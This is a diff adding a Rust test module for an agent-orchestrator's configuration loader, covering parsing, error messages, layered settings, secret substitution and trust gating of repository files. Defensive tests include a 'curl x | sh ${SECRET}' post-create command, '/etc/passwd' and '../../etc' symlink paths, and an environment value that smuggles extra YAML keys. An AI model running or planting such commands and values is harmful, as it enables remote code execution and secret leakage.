@@ -1,0 +1,566 @@
+//! Whole configurations: what they come to, and what is said about those that cannot be.
+
+use std::path::Path;
+
+use ao_slots::{
+    PluginError,
+    fact::Priority,
+    plugin::{Plugin, Registration},
+};
+use proptest::prelude::*;
+use schemars::JsonSchema;
+use serde::Deserialize;
+use serde_json::{Value, json};
+
+use super::{
+    policy::{PluginChoice, ProjectPolicy, ReactionAction},
+    trigger::Trigger,
+    *,
+};
+
+const EXAMPLE: &str = include_str!("../../../agent-orchestrator.yaml.example");
+
+#[derive(Deserialize, JsonSchema)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+#[expect(dead_code, reason = "only its shape matters")]
+struct Hook {
+    /// Where to.
+    url: String,
+    /// Signed with.
+    secret: Option<String>,
+    /// How often.
+    max_tries: Option<u8>,
+}
+
+#[derive(Deserialize, JsonSchema, Default)]
+#[serde(deny_unknown_fields)]
+struct Nothing {}
+
+fn register<T: ?Sized>(name: &'static str) -> Registration<T> {
+    Registration {
+        name,
+        about: "",
+        schema: || schemars::schema_for!(Nothing),
+        check: |value| ao_slots::plugin::settings::<Nothing>("x", value).map(drop),
+        build: |_, _| Err(PluginError::unsupported("only its shape matters")),
+    }
+}
+
+fn catalog() -> Catalog {
+    let webhook = Registration {
+        schema: || schemars::schema_for!(Hook),
+        check: |value| ao_slots::plugin::settings::<Hook>("webhook", value).map(drop),
+        ..register("webhook")
+    };
+    Catalog::new([
+        Plugin::Runtime(register("tmux")),
+        Plugin::Runtime(register("process")),
+        Plugin::Agent(register("claude-code")),
+        Plugin::Agent(register("custom")),
+        Plugin::Workspace(register("worktree")),
+        Plugin::Tracker(register("plain")),
+        Plugin::Scm(register("local")),
+        Plugin::Terminal(register("auto")),
+        Plugin::Notifier(register("desktop")),
+        Plugin::Notifier(webhook),
+    ])
+}
+
+fn world() -> World {
+    let env = [("SECRET", "hunter22"), ("AO_X", "x"), ("HOME", "/home/ana")];
+    World {
+        home: "/home/ana".into(),
+        env: env.into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect(),
+        data_dir: None,
+        catalog: catalog(),
+    }
+}
+
+fn file(path: &str, role: Role, text: &str) -> SourceFile {
+    SourceFile {
+        path: path.into(),
+        text: text.to_owned(),
+        role,
+        in_repository: false,
+        trusted: None,
+    }
+}
+
+fn user(text: &str) -> SourceFile {
+    file("/home/ana/.config/ao/config.yaml", Role::User, text)
+}
+
+fn repo(name: &str, text: &str) -> SourceFile {
+    file(&format!("/code/{name}/agent-orchestrator.yaml"), Role::Registered, text)
+}
+
+#[track_caller]
+fn good(files: &[SourceFile]) -> Loaded {
+    load(files, &world()).unwrap_or_else(|errors| {
+        panic!("{}", errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))
+    })
+}
+
+/// `/code/a/agent-orchestrator.yaml:1:2: message (label)` as `a:1:2: …`.
+fn shown(errors: &[ConfigError]) -> Vec<String> {
+    let short = |error: &ConfigError| {
+        let text = error.to_string();
+        text.replace("/code/", "")
+            .replace("/agent-orchestrator.yaml", "")
+            .replace("/home/ana/.config/ao/config.yaml", "user")
+    };
+    errors.iter().map(short).collect()
+}
+
+fn id(text: &str) -> ao_slots::ProjectId {
+    text.parse().unwrap()
+}
+
+#[test]
+fn a_project_needs_only_its_path() {
+    let loaded = good(&[repo("my-app", "projects:\n  my-app: {path: .}\n")]);
+    let mut wanted = Policy::default();
+    let project = ProjectPolicy::new(&id("my-app"), "app".parse().unwrap(), "/code/my-app".into());
+    wanted.projects.insert(id("my-app"), project);
+    wanted.data_dir = "/home/ana/.agent-orchestrator".into();
+    wanted.worktree_dir = "/home/ana/.worktrees".into();
+    assert_eq!(loaded.policy, wanted);
+    assert_eq!(loaded.live, wanted);
+    assert_eq!((loaded.warnings, loaded.pending), (vec![], vec![]));
+    let with_repo =
+        good(&[repo("x", "projects:\n  my-app: {repo: acme/my-app, path: ~/my-app}\n")]);
+    let project = &with_repo.policy.projects[&id("my-app")];
+    assert_eq!(project.repo.as_deref(), Some("acme/my-app"));
+    assert_eq!(project.path, Path::new("/home/ana/my-app"));
+    assert_eq!(good(&[]).policy.projects, [].into());
+}
+
+#[test]
+fn the_example_shows_every_key_with_its_default() {
+    let minimal = good(&[file("/code/x.yaml", Role::Given, "projects:\n  my-app: {path: .}\n")]);
+    let example = good(&[file("/code/x.yaml", Role::Given, EXAMPLE)]);
+    assert_eq!(example.policy, minimal.policy);
+    assert_eq!(shown(&example.warnings), [""; 0]);
+
+    // The keys that have no default are shown as comments; with those every key of the schema is there.
+    let full: String = EXAMPLE
+        .lines()
+        .map(|line| {
+            let body = line.trim_start();
+            let shows =
+                body.strip_prefix('#').filter(|rest| rest.starts_with(|c: char| c.is_alphabetic()));
+            let indent = &line[..line.len() - body.len()];
+            shows.map_or(format!("{line}\n"), |key| format!("{indent}{key}\n"))
+        })
+        .collect();
+    let mut world = world();
+    world.env.insert("AO_HOOK_SECRET".into(), "x".into());
+    let loaded = load(&[file("/code/x.yaml", Role::Given, &full)], &world);
+    let loaded = loaded.unwrap_or_else(|errors| panic!("{:?}", shown(&errors)));
+    assert_eq!(shown(&loaded.warnings), [""; 0]);
+    let document: Value = serde_yaml::from_str(&full).unwrap();
+    let mut missing = Vec::new();
+    compare(&config_schema(), &config_schema(), &document, "", &mut missing);
+    assert_eq!(missing, [""; 0]);
+    for trigger in Trigger::ALL {
+        assert!(document["reactions"][trigger.as_str()].is_object(), "{trigger} is not shown");
+    }
+    for key in config_schema()["$defs"]["ReactionEntry"]["properties"].as_object().unwrap().keys() {
+        let reactions = document["reactions"].as_object().unwrap();
+        assert!(
+            reactions.values().any(|reaction| reaction.get(key).is_some()),
+            "{key} is not shown"
+        );
+    }
+}
+
+/// Collects the keys of the schema that the document does not have, reactions left out.
+fn compare(root: &Value, schema: &Value, document: &Value, path: &str, missing: &mut Vec<String>) {
+    let schema = match schema["$ref"].as_str() {
+        Some(reference) => root.pointer(&reference[1..]).unwrap(),
+        None => schema,
+    };
+    if schema["x-noun"].is_string() {
+        return;
+    }
+    for (key, part) in schema["properties"].as_object().into_iter().flatten() {
+        let path = format!("{path}.{key}");
+        match document.get(key) {
+            Some(value) => compare(root, part, value, &path, missing),
+            None => missing.push(path),
+        }
+    }
+    if schema["additionalProperties"].is_object() {
+        let values = document.as_object().unwrap();
+        if let Some(value) = values.values().next() {
+            compare(root, &schema["additionalProperties"], value, path, missing);
+        }
+    }
+}
+
+#[test]
+fn what_cannot_be_is_told_with_its_place() {
+    for (files, wanted) in [
+        (
+            vec![repo("a", "projects:\n  a:\n    path: .\n    agent: cluade-code\n")],
+            vec![
+                "a:4:12: unknown agent `cluade-code` (known: claude-code, custom) (did you mean `claude-code`?)",
+            ],
+        ),
+        (
+            vec![repo("a", "notifiers:\n  destkop: {}\n  x: {plugin: nope}\n")],
+            vec![
+                "a:2:3: unknown notifier `destkop` (known: desktop, webhook) (did you mean `desktop`?)",
+                "a:3:15: unknown notifier `nope` (known: desktop, webhook)",
+            ],
+        ),
+        (
+            vec![repo(
+                "a",
+                "notifiers:\n  hook:\n    plugin: webhook\n    ulr: x\n  b: {plugin: webhook, url: 1}\n  c: webhook\n",
+            )],
+            vec![
+                "a:2:3: `hook` has no `url` (add `url: …` here)",
+                "a:4:5: `ulr` is not a setting (did you mean `url`?)",
+                "a:5:29: `url` takes text, not a number",
+                "a:6:6: `c` has no `url` (add `url: …` here)",
+            ],
+        ),
+        (
+            vec![repo("a", "notifiers:\n  hook: {plugin: webhook, url: x, max-tries: 300}\n")],
+            vec!["a:2:46: `maxTries` takes a whole number from 0 to 255 (out of range)"],
+        ),
+        (
+            vec![repo("a", "defaults:\n  runtime: {}\n  notifiers: [slak, webhook]\n")],
+            vec!["a:2:3: `runtime` has no `plugin` (add `plugin: …` here)"],
+        ),
+        (
+            vec![repo("a", "defaults:\n  notifiers: [slak, webhook]\n")],
+            vec![
+                "a:2:15: `slak` is not a channel (add it under `notifiers.slak`)",
+                "a:2:21: channel `webhook` needs settings: missing field `url` (configure it under `notifiers.webhook`)",
+            ],
+        ),
+        (
+            vec![repo(
+                "a",
+                "projects:\n  a:\n    path: ~ben/x\n    subdir: ../y\n    symlinks: [.env, ../../etc, /etc/passwd]\n    \
+                 defaultBranch: --force\n    repo: https://tok@host/x\n    env: {AO_TOKEN: x, 1A: y}\n    \
+                 agentRulesFile: \"\"\n    worktree: {sparse: [-x]}\n    sessionPrefix: 1a\n",
+            )],
+            vec![
+                "a:3:11: `path` cannot be `~ben/x` (only `~/` is read; write another user's folder out)",
+                "a:4:13: `subdir` cannot be `../y` (it must lie within the repository)",
+                "a:5:22: `symlinks` cannot be `../../etc` (it must lie within the repository)",
+                "a:5:33: `symlinks` cannot be `/etc/passwd` (it must lie within the repository)",
+                "a:6:20: `defaultBranch` cannot be `--force` (git takes no such branch name)",
+                "a:7:11: `repo` holds a password or token (leave credentials to git's credential helper)",
+                "a:8:21: `env` cannot be `AO_TOKEN` (names that begin with `AO_` are ao's own)",
+                "a:8:28: `env` cannot be `1A` (a name has letters, digits and `_`, first no digit)",
+                "a:9:21: `agentRulesFile` cannot be `` (a path is not empty)",
+                "a:10:25: `worktree` cannot be `-x` (a path within the repository begins with neither `~` nor `-`)",
+                "a:11:20: `sessionPrefix` cannot be `1a` (1 to 64 letters, digits, `-` or `_`, first a letter)",
+            ],
+        ),
+        (
+            vec![repo("a", "projects:\n  ../x: {path: .}\n")],
+            vec![
+                "a:2:3: `../x` cannot be a project's id (1 to 64 letters, digits, `-`, `_` or `.`, first a letter or digit)",
+            ],
+        ),
+        (
+            vec![
+                repo("a", "projects:\n  app: {path: .}\n"),
+                repo(
+                    "b",
+                    "projects:\n  app: {path: .}\n  x: {path: ., sessionPrefix: App}\n  y: {path: ., sessionPrefix: app}\n",
+                ),
+            ],
+            vec![
+                "a:2:3: the session prefix `app` is taken (`x` in b has it)",
+                "b:2:3: project `app` is configured twice (also in a)",
+                "b:4:31: the session prefix `app` is taken (`x` in b has it)",
+            ],
+        ),
+        (
+            vec![
+                repo("a", "notifiers:\n  hook: {plugin: webhook, url: x}\n  d: desktop\n"),
+                repo("b", "notifiers:\n  hook: {plugin: webhook, url: y}\n  d: desktop\n"),
+            ],
+            vec!["b:2:3: channel `hook` is configured twice (otherwise in a)"],
+        ),
+        (
+            vec![repo(
+                "a",
+                "reactions:\n  agent-stuck: {action: auto-merge, threshold: 1GiB}\n  disk-low: {threshold: 5m}\n  all-complete: {escalateAfter: x}\n",
+            )],
+            vec!["a:4:33: `escalate-after` takes a duration such as `10m` (`x` is none)"],
+        ),
+        (
+            vec![repo(
+                "a",
+                "reactions:\n  agent-stuck: {action: auto-merge, threshold: 1GiB}\n  disk-low: {threshold: 5m}\n",
+            )],
+            vec![
+                "a:2:25: `agent-stuck` cannot do `auto-merge` (it can: notify)",
+                "a:2:48: the threshold of `agent-stuck` is a duration such as `10m`",
+                "a:3:25: the threshold of `disk-low` is a size such as `1GiB`",
+            ],
+        ),
+        (
+            vec![repo("a", "lifecycle: {sweepInterval: 10ms, limits: {scm: 0s}}\n")],
+            vec![
+                "a:1:28: `sweepInterval` is too short (at least 100ms)",
+                "a:1:48: `scm` is too short (at least 1ms)",
+            ],
+        ),
+        // A variable's value is judged at its place too.
+        (
+            vec![repo(
+                "a",
+                "projects:\n  a: {path: ., agentConfig: {permissions: \"${SECRET}\"}}\n",
+            )],
+            vec![
+                "a:2:43: `permissions` is not valid: unknown variant `hunter22`, expected one of `skip`, `accept-edits`, `ask`, `plan`",
+            ],
+        ),
+        (
+            vec![repo("a", "people: {}\n"), user("prot: 1\n")],
+            vec![
+                "user:1:1: `prot` is not a setting (did you mean `port`?)",
+                "a:1:1: `people` is not a setting (no such setting here)",
+            ],
+        ),
+    ] {
+        match load(&files, &world()) {
+            Ok(_) => panic!("accepted: {files:?}"),
+            Err(errors) => assert_eq!(shown(&errors), wanted),
+        }
+    }
+}
+
+#[test]
+fn what_is_not_as_it_seems_is_a_warning() {
+    for (files, wanted) in [
+        (
+            vec![repo("a", "dataDir: x\nport: 4000\n")],
+            vec![
+                "a:1:1: `dataDir`, `port` are not used from this file (counts only in the user's own file)",
+            ],
+        ),
+        (
+            vec![repo(
+                "a",
+                "notifications: {routing: {urgent: [desktop, slack], info: [destkop]}}\n",
+            )],
+            vec![
+                "a:1:45: `slack` is not a channel; `urgent` goes without it (add it under `notifiers.slack`)",
+                "a:1:60: `destkop` is not a channel; `info` goes without it (did you mean `desktop`?)",
+            ],
+        ),
+        (
+            vec![repo(
+                "a",
+                "reactions:\n  agent-exited: {threshold: 1m, retries: 2, auto: true, action: notify}\n  approved-and-green: {action: auto-merge}\n",
+            )],
+            vec![
+                "a:2:18: `threshold` does nothing for `agent-exited` (not used)",
+                "a:2:33: `retries` does nothing for `agent-exited` (not used)",
+                "a:3:32: nothing is merged: `auto` is not `true` (a human is asked)",
+            ],
+        ),
+        (
+            vec![
+                repo("a", "lifecycle: {sweepInterval: 1s, scmInterval: 1m}\n"),
+                repo("b", "lifecycle: {sweepInterval: 2s, scmInterval: 1m}\n"),
+            ],
+            vec!["b:1:28: `lifecycle.sweepInterval` is decided by another file (a says \"1s\")"],
+        ),
+    ] {
+        assert_eq!(shown(&good(&files).warnings), wanted);
+    }
+}
+
+#[test]
+fn layers_go_project_file_user_default() {
+    let files = [
+        user(
+            "port: 4000\ndataDir: ~/data\ndefaults: {agent: custom, runtime: process}\n\
+             notifiers: {mail: {plugin: webhook, url: m}}\n\
+             reactions: {ci-failed: {retries: 5, priority: high}, agent-idle: {threshold: 1h}}\n\
+             lifecycle: {sweepInterval: 1s}\nprojects:\n  tools: {path: ~/tools}\n",
+        ),
+        repo(
+            "a",
+            "port: 5000\ndefaults: {runtime: tmux}\nnotifiers: {hook: {plugin: webhook, url: \"x${SECRET}\", secret: $$a}}\n\
+             notifications: {routing: {urgent: [hook, hook]}}\nlifecycle: {sweepInterval: 9s, scmInterval: 9s}\n\
+             reactions: {ci-failed: {escalate-after: 1h}, approved-and-green: {auto: true}}\nprojects:\n  my-app:\n    path: .\n    \
+             reactions: {ciFailed: {retries: 9}}\n    env: {TOKEN: \"${SECRET}\"}\n",
+        ),
+        repo(
+            "b",
+            "projects:\n  your-app: {path: ., agent: {plugin: claude-code}}\n  api: {path: .}\n",
+        ),
+    ];
+    let Loaded { policy, live, .. } = good(&files);
+    assert_eq!((policy.port, policy.data_dir.as_path()), (4000, Path::new("/home/ana/data")));
+    assert_eq!(policy.worktree_dir, Path::new("/home/ana/data/worktrees"));
+    assert_eq!(
+        (policy.lifecycle.sweep_interval_ms, policy.lifecycle.scm_interval_ms),
+        (1_000, 9_000)
+    );
+    let project = |name: &str| &policy.projects[&id(name)];
+    let prefixes: Vec<&str> = policy.projects.values().map(|p| p.session_prefix.as_str()).collect();
+    assert_eq!(prefixes, ["api", "app", "tools", "your-app"]);
+    assert_eq!(project("my-app").runtime, PluginChoice::of("tmux"));
+    assert_eq!(project("my-app").agent, PluginChoice::of("custom"));
+    assert_eq!(project("your-app").agent, PluginChoice::of("claude-code"));
+    assert_eq!(project("your-app").runtime, PluginChoice::of("process"));
+
+    let ci = |name: &str| {
+        let reaction = policy.reaction(Some(&id(name)), Trigger::CiFailed);
+        (reaction.retries, reaction.escalate_after_ms, reaction.priority)
+    };
+    assert_eq!(ci("my-app"), (9, Some(3_600_000), Priority::Urgent));
+    assert_eq!(ci("your-app"), (5, None, Priority::Urgent));
+    let merge = |name: &str| policy.reaction(Some(&id(name)), Trigger::ApprovedAndGreen);
+    assert!(merge("my-app").merges() && merge("my-app").action == ReactionAction::AutoMerge);
+    assert!(!merge("api").merges());
+    assert_eq!(policy.reaction(None, Trigger::AgentIdle).threshold_ms, Some(3_600_000));
+
+    // A repository's channels carry only its own messages; the user's carry all.
+    let names = |channels: &[ao_slots::ChannelName]| {
+        channels.iter().map(ToString::to_string).collect::<Vec<_>>().join(" ")
+    };
+    assert_eq!(names(&project("my-app").rules.channels), "desktop hook mail");
+    assert_eq!(names(&project("your-app").rules.channels), "desktop mail");
+    assert_eq!(names(&policy.rules.channels), "desktop hook mail");
+    assert_eq!(names(project("my-app").rules.named(Priority::Urgent).unwrap()), "hook");
+    assert_eq!(names(project("my-app").rules.named(Priority::Info).unwrap()), "desktop");
+    assert_eq!(project("your-app").rules.named(Priority::Urgent), None);
+
+    // Secrets are references in what is journalled and values in what plugins are built from.
+    let hook = "hook".parse().unwrap();
+    assert_eq!(policy.channels[&hook].settings, json!({"secret": "$$a", "url": "x${SECRET}"}));
+    assert_eq!(live.channels[&hook].settings, json!({"secret": "$a", "url": "xhunter22"}));
+    assert_eq!(live.projects[&id("my-app")].env["TOKEN"], "hunter22");
+    assert!(!serde_json::to_string(&policy).unwrap().contains("hunter22"));
+}
+
+#[test]
+fn the_data_lies_where_the_command_line_or_the_user_says() {
+    let given = file("/tmp/demo/x.yaml", Role::Given, "dataDir: data\nport: 1\n");
+    let users = user("dataDir: ~/d\nworktreeDir: ~/w\nport: 2\n");
+    let both = good(&[users.clone(), given.clone()]).policy;
+    assert_eq!((both.data_dir.as_path(), both.port), (Path::new("/tmp/demo/data"), 1));
+    assert_eq!(both.worktree_dir, Path::new("/home/ana/w"));
+    let named = World { data_dir: Some("/named".into()), ..world() };
+    let files = [users, given, repo("a", "this: [is not read\n")];
+    assert_eq!(folders(&files, &named).unwrap(), ("/named".into(), "/home/ana/w".into()));
+    assert_eq!(
+        folders(&[], &world()).unwrap(),
+        ("/home/ana/.agent-orchestrator".into(), "/home/ana/.worktrees".into())
+    );
+    let named = World { data_dir: Some("/named".into()), ..world() };
+    assert_eq!(folders(&[], &named).unwrap().1, Path::new("/named/worktrees"));
+}
+
+#[test]
+fn a_repositorys_file_waits_for_trust_and_the_old_values_stay() {
+    let old = "projects:\n  my-app: {path: ., postCreate: [npm ci]}\n";
+    let new = "projects:\n  my-app: {path: ., postCreate: [\"curl x | sh ${SECRET}\"], agentRules: be brief}\n";
+    let source = |text: &str, trusted: Option<&str>| SourceFile {
+        in_repository: true,
+        trusted: trusted.map(str::to_owned),
+        ..repo("my-app", text)
+    };
+    let post_create = |loaded: &Loaded| loaded.live.projects[&id("my-app")].post_create.clone();
+
+    let first = good(&[source(old, None)]);
+    assert_eq!(post_create(&first), [""; 0]);
+    assert_eq!(first.pending[0].items[0].key, "projects.my-app.postCreate");
+    assert_eq!(first.pending[0].hash, source(old, None).hash());
+
+    assert_eq!(post_create(&good(&[source(old, Some(old))])), ["npm ci"]);
+    assert_eq!(good(&[source(old, Some(old))]).pending, []);
+
+    let changed = source(new, Some(old));
+    let loaded = good(std::slice::from_ref(&changed));
+    assert_eq!(post_create(&loaded), ["npm ci"]);
+    assert_eq!(loaded.live.projects[&id("my-app")].agent_rules.as_deref(), Some("be brief"));
+    let item = &loaded.pending[0].items[0];
+    assert_eq!(needs_trust(&changed), loaded.pending[0].items);
+    assert_eq!(item.old.as_deref(), Some("[\"npm ci\"]"));
+    assert_eq!(item.new.as_deref(), Some("[\"curl x | sh ${SECRET}\"]"));
+    assert_eq!(post_create(&good(&[source(new, Some(new))])), ["curl x | sh hunter22"]);
+
+    // Outside a repository, and in the user's own file, nothing waits.
+    assert_eq!(post_create(&good(&[repo("my-app", old)])), ["npm ci"]);
+    assert_eq!(
+        post_create(&good(&[SourceFile { role: Role::User, ..source(old, None) }])),
+        ["npm ci"]
+    );
+}
+
+#[test]
+fn r26_a_load_that_fails_leaves_what_was_loaded_and_tells_all_that_is_wrong() {
+    let before = good(&[user("port: 4000\n"), repo("a", "projects:\n  a: {path: .}\n")]);
+    let broken = [
+        user("port: 4000\n"),
+        repo("a", "projects:\n  a: {path: ., agent: x}\n"),
+        repo("b", "a: [\n"),
+        repo("c", "prot: 1\nporjects: {}\n"),
+    ];
+    let errors = load(&broken, &world()).unwrap_err();
+    let files: Vec<_> =
+        shown(&errors).iter().map(|error| error.split(':').next().unwrap().to_owned()).collect();
+    assert_eq!(files, ["a", "b", "c", "c"]);
+    let again =
+        good(&[user("port: 4000\n"), repo("a", "# a comment\nprojects:\n  a:\n    path: .\n")]);
+    assert_eq!(again, before);
+    assert_eq!(again.hash, before.hash);
+    let other = good(&[user("port: 4001\n"), repo("a", "projects:\n  a: {path: .}\n")]);
+    assert_ne!(other.hash, before.hash);
+}
+
+#[test]
+fn equal_configurations_give_equal_policies() {
+    let one = "notifiers: {h: {plugin: webhook, url: x, secret: y}}\nprojects: {b: {path: b}, a: {path: a}}\n";
+    let two = "projects:\n  b: {path: b}\n  a: {path: a}\nnotifiers:\n  h:\n    secret: y\n    url: x\n    plugin: webhook\n";
+    assert_eq!(good(&[repo("a", one)]).hash, good(&[repo("a", two)]).hash);
+}
+
+#[test]
+fn s33_a_value_from_the_environment_is_never_read_as_yaml() {
+    let mut world = world();
+    let trick = "x\n    postCreate: [evil]\n    agent: {plugin: custom}";
+    world.env.insert("TRICK".into(), trick.into());
+    let text = "projects:\n  a:\n    path: .\n    agentRules: ${TRICK}\n";
+    let project = &load(&[repo("a", text)], &world).unwrap().live.projects[&id("a")];
+    assert_eq!(project.agent_rules.as_deref(), Some(trick));
+    assert_eq!(project.post_create, [""; 0]);
+}
+
+proptest! {
+    #[test]
+    fn r28_arbitrary_text_never_panics(
+        text in "(projects|notifiers|reactions|defaults|a|path|plugin|agent-stuck|threshold|\\$\\{A\\}|[:\\-\\[\\]{},&*!|>'\"#%@ \n0-9~]){0,30}|\\PC{0,60}"
+    ) {
+        let source = SourceFile { in_repository: true, ..repo("a", &text) };
+        let _ = needs_trust(&source);
+        if let Err(errors) = load(&[source], &world()) {
+            for error in errors {
+                prop_assert!(error.offset + error.length <= text.len());
+                prop_assert!(text.is_char_boundary(error.offset) && text.is_char_boundary(error.offset + error.length));
+                prop_assert!(error.message.chars().count() < 600, "{}", error.message);
+            }
+        }
+    }
+
+    #[test]
+    fn r28_a_broken_example_is_refused_or_read_but_never_panics(at in 0..EXAMPLE.len(), len in 0..40_usize, put in "[:\\-\\[\\]{}&*!|>'\"#\n a]{0,3}") {
+        let (start, end) = (EXAMPLE.floor_char_boundary(at), EXAMPLE.floor_char_boundary((at + len).min(EXAMPLE.len())));
+        let text = format!("{}{put}{}", &EXAMPLE[..start], &EXAMPLE[end..]);
+        let _ = load(&[SourceFile { in_repository: true, trusted: Some(EXAMPLE.into()), ..repo("a", &text) }], &world());
+    }
+}
